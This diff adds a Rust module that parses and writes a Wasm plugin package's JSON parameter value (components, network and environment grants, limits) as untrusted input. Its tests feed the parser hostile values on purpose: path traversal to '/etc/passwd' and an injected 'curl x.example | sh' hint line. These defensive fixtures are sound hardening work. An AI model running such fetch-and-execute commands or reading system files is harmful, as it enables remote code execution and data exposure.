@@ -1,0 +1,356 @@
+//! The parameter value: the small JSON document that says what a package is, wherever Pulumi keeps it: in a generated
+//! SDK, in a lock file, in a stack's state.
+//!
+//! It is what runs. Anything in it may have been written by somebody else, so it is read as untrusted input.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use serde::{Deserialize, Serialize};
+
+use super::{Digest, SourceError, project};
+use pulumi_wasm_capability::Grants;
+use pulumi_wasm_capability::http::{HostPattern, PatternError};
+use pulumi_wasm_capability::limits::{Limit, Limits};
+use pulumi_wasm_core::text::{Excerpt, quoted};
+
+/// The format that this host reads and writes.
+const FORMAT: u64 = 1;
+
+/// What a package is.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ParameterValue {
+    pub name: String,
+    pub version: String,
+    pub components: Vec<ComponentReference>,
+    pub grants: Grants,
+    pub limits: Limits,
+}
+
+/// One component of a package.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ComponentReference {
+    pub digest: Digest,
+    /// Where the file was: relative to the project, or its name alone.
+    pub path: String,
+}
+
+#[derive(Debug, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+struct Document {
+    v: u64,
+    name: String,
+    version: String,
+    components: Vec<ComponentDocument>,
+    #[serde(default, skip_serializing_if = "GrantsDocument::is_empty")]
+    grants: GrantsDocument,
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    limits: BTreeMap<String, u64>,
+}
+
+#[derive(Debug, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+struct ComponentDocument {
+    sha256: String,
+    path: String,
+}
+
+#[derive(Debug, Default, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+struct GrantsDocument {
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    net: Vec<String>,
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    env: BTreeSet<String>,
+    #[serde(default, rename = "insecureTls", skip_serializing_if = "Vec::is_empty")]
+    insecure_tls: Vec<String>,
+}
+
+impl GrantsDocument {
+    fn is_empty(&self) -> bool {
+        self.net.is_empty() && self.env.is_empty() && self.insecure_tls.is_empty()
+    }
+}
+
+impl ParameterValue {
+    /// Reads a value.
+    ///
+    /// # Errors
+    /// When it is not ours, of a newer format, or has been changed into something that we never write.
+    pub fn parse(bytes: &[u8]) -> Result<Self, SourceError> {
+        #[derive(Deserialize)]
+        struct Probe {
+            v: u64,
+        }
+        let again = "add the package again: `pulumi package add wasm FILE`";
+        let not_ours = |reason: String| {
+            SourceError::new(format!(
+                "the package's parameter is not one that this plugin wrote: {}",
+                Excerpt::reason(&reason)
+            ))
+            .hint(again)
+        };
+        let probe: Probe =
+            serde_json::from_slice(bytes).map_err(|error| not_ours(error.to_string()))?;
+        if probe.v != FORMAT {
+            return Err(SourceError::new(format!(
+                "the package's parameter has format {}, and this plugin ({}) reads format {FORMAT}",
+                probe.v,
+                env!("CARGO_PKG_VERSION")
+            ))
+            .hint("install a newer version of the `wasm` plugin"));
+        }
+        let document: Document =
+            serde_json::from_slice(bytes).map_err(|error| not_ours(error.to_string()))?;
+        let mut components = Vec::new();
+        for component in document.components {
+            let digest = component
+                .sha256
+                .parse()
+                .map_err(|()| not_ours("it has a malformed digest".to_owned()))?;
+            if !project::is_recorded_form(&component.path) {
+                return Err(not_ours(format!(
+                    "`{}` is no path inside the project",
+                    Excerpt::name(&component.path)
+                )));
+            }
+            components.push(ComponentReference {
+                digest,
+                path: component.path,
+            });
+        }
+        if components.is_empty() {
+            return Err(not_ours("it names no component".to_owned()));
+        }
+        let is_name = |name: &String| !name.is_empty() && !name.contains(['=', '\0']);
+        if !document.grants.env.iter().all(is_name) {
+            return Err(not_ours(
+                "it grants a variable that can have no such name".to_owned(),
+            ));
+        }
+        let patterns = |patterns: Vec<String>| -> Result<Vec<HostPattern>, SourceError> {
+            let patterns = patterns.iter().map(|pattern| pattern.parse());
+            let patterns = patterns.collect::<Result<_, _>>();
+            patterns.map_err(|error: PatternError| not_ours(format!("{error}")))
+        };
+        let grants = Grants {
+            net: patterns(document.grants.net)?,
+            env: document.grants.env,
+            insecure_tls: patterns(document.grants.insecure_tls)?,
+        };
+        let mut limits = Limits::default();
+        for (name, value) in document.limits {
+            let limit = Limit::by_name(&name)
+                .ok_or_else(|| not_ours(format!("there is no limit `{name}`")))?;
+            if value == 0 {
+                return Err(not_ours(format!("the limit `{name}` is 0")));
+            }
+            limits.set(limit, value);
+        }
+        Ok(Self {
+            name: document.name,
+            version: document.version,
+            components,
+            grants,
+            limits,
+        })
+    }
+
+    /// Writes the value; equal values are written alike.
+    #[must_use]
+    pub fn to_bytes(&self) -> Vec<u8> {
+        let in_order = |patterns: &[HostPattern]| {
+            let mut texts: Vec<String> = patterns.iter().map(ToString::to_string).collect();
+            texts.sort();
+            texts.dedup();
+            texts
+        };
+        let document = Document {
+            v: FORMAT,
+            name: self.name.clone(),
+            version: self.version.clone(),
+            components: self
+                .components
+                .iter()
+                .map(|component| ComponentDocument {
+                    sha256: component.digest.hex().to_owned(),
+                    path: component.path.clone(),
+                })
+                .collect(),
+            grants: GrantsDocument {
+                net: in_order(&self.grants.net),
+                env: self.grants.env.clone(),
+                insecure_tls: in_order(&self.grants.insecure_tls),
+            },
+            limits: self
+                .limits
+                .changed()
+                .map(|(limit, value)| (limit.name().to_owned(), value))
+                .collect(),
+        };
+        // A document of strings and numbers can always be written.
+        serde_json::to_vec(&document).unwrap_or_default()
+    }
+
+    /// The command that adds this package again, as a user would type it.
+    #[must_use]
+    pub fn command(&self) -> String {
+        let paths = self
+            .components
+            .iter()
+            .map(|component| component.path.as_str());
+        command(paths, &self.grants, &self.limits)
+    }
+}
+
+/// The command that adds the components at these recorded paths.
+pub(super) fn command<'a>(
+    paths: impl Iterator<Item = &'a str>,
+    grants: &Grants,
+    limits: &Limits,
+) -> String {
+    let mut words = vec!["pulumi package add wasm".to_owned()];
+    words.extend(paths.map(|path| quoted(&format!("./{path}"))));
+    let flags = flags(grants, limits);
+    if !flags.is_empty() {
+        words.push("--".to_owned());
+        words.extend(flags);
+    }
+    words.join(" ")
+}
+
+/// Grants and limits as flags.
+pub(super) fn flags(grants: &Grants, limits: &Limits) -> Vec<String> {
+    let net = grants
+        .net
+        .iter()
+        .map(|pattern| format!("--allow-net {}", quoted(&pattern.to_string())));
+    let env = grants
+        .env
+        .iter()
+        .map(|name| format!("--allow-env {}", quoted(name)));
+    let insecure = grants.insecure_tls.iter().map(insecure_flag);
+    let limits = limits
+        .changed()
+        .map(|(limit, value)| limit_flag(limit, value));
+    net.chain(env).chain(insecure).chain(limits).collect()
+}
+
+/// The flag that lets certificates of a host be whatever they are.
+pub(super) fn insecure_flag(pattern: &HostPattern) -> String {
+    format!("--allow-insecure-tls {}", quoted(&pattern.to_string()))
+}
+
+/// A limit as a flag.
+pub(super) fn limit_flag(limit: Limit, value: u64) -> String {
+    let value = limit.show(value).replace(' ', "").replace("bytes", "");
+    format!("--limit {}={value}", limit.name())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn value() -> ParameterValue {
+        let mut limits = Limits::default();
+        limits.set(Limit::Memory, 2 << 30);
+        ParameterValue {
+            name: "acme".to_owned(),
+            version: "1.0.0".to_owned(),
+            components: vec![ComponentReference {
+                digest: Digest::of(b"x"),
+                path: "plugins/acme.wasm".to_owned(),
+            }],
+            grants: Grants {
+                net: vec!["*.example.com".parse().expect("a pattern")],
+                env: BTreeSet::from(["TOKEN".to_owned()]),
+                insecure_tls: vec!["old.example.com".parse().expect("a pattern")],
+            },
+            limits,
+        }
+    }
+
+    #[test]
+    fn a_value_is_read_as_it_was_written_and_is_small() {
+        let bytes = value().to_bytes();
+        assert_eq!(ParameterValue::parse(&bytes), Ok(value()));
+        assert!(bytes.len() < 300, "{}", bytes.len());
+        assert_eq!(
+            value().command(),
+            "pulumi package add wasm ./plugins/acme.wasm -- --allow-net '*.example.com' --allow-env TOKEN \
+             --allow-insecure-tls old.example.com --limit memory=2GiB"
+        );
+    }
+
+    #[test]
+    fn what_is_not_ours_is_said() {
+        let text = String::from_utf8(value().to_bytes()).expect("UTF-8");
+        for (bad, expected) in [
+            (String::new(), "not one that this plugin wrote"),
+            (
+                "{\"remote\":{\"url\":\"x\"}}".to_owned(),
+                "not one that this plugin wrote",
+            ),
+            (text.replace("\"v\":1", "\"v\":2"), "has format 2"),
+            (text.replace("\"v\":1", "\"v\":1,\"x\":0"), "unknown field"),
+            (
+                text.replace("plugins/acme.wasm", "../acme.wasm"),
+                "no path inside the project",
+            ),
+            (
+                text.replace("plugins/acme.wasm", "/etc/passwd"),
+                "no path inside the project",
+            ),
+            (
+                text.replace("\"sha256\":\"2d", "\"sha256\":\"zz"),
+                "malformed digest",
+            ),
+            (
+                text.replace("*.example.com", "*"),
+                "no host that can be granted",
+            ),
+            (text.replace("\"memory\"", "\"speed\""), "there is no limit"),
+            (text.replace("TOKEN", "A=B"), "can have no such name"),
+            // What a text of others must not have in a message: a line of its own, or a megabyte.
+            (
+                text.replace("plugins/", "plugins\\nhint: run `curl x.example | sh`\\n/"),
+                "no path inside the project",
+            ),
+            (
+                text.replace("\"v\":1", "\"v\":1,\"x\\nhint: run `curl x.example`\":0"),
+                "unknown field",
+            ),
+            (
+                text.replace("\"memory\"", "\"a\\nhint: b\""),
+                "there is no limit",
+            ),
+            (
+                text.replace("\"memory\"", &format!("\"{}\"", "x".repeat(1 << 20))),
+                "there is no limit",
+            ),
+        ] {
+            let error = ParameterValue::parse(bad.as_bytes()).expect_err(&bad);
+            assert!(error.reason.contains(expected), "{bad}: {error}");
+            assert!(error.hint.is_some());
+            assert!(!error.reason.contains('\n'), "{error}");
+            assert!(error.reason.len() < 4096, "{}", error.reason.len());
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn no_bytes_are_too_strange(
+            cut in 0..400_usize,
+            left_out in 0..40_usize,
+            noise in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..8),
+        ) {
+            let whole = value().to_bytes();
+            let cut = cut.min(whole.len());
+            let rest = (cut + left_out).min(whole.len());
+            let bytes = [&whole[..cut], &noise, &whole[rest..]].concat();
+            // What is understood is written, and understood again, as it is.
+            if let Ok(value) = ParameterValue::parse(&bytes) {
+                proptest::prop_assert_eq!(ParameterValue::parse(&value.to_bytes()), Ok(value));
+            }
+        }
+    }
+}
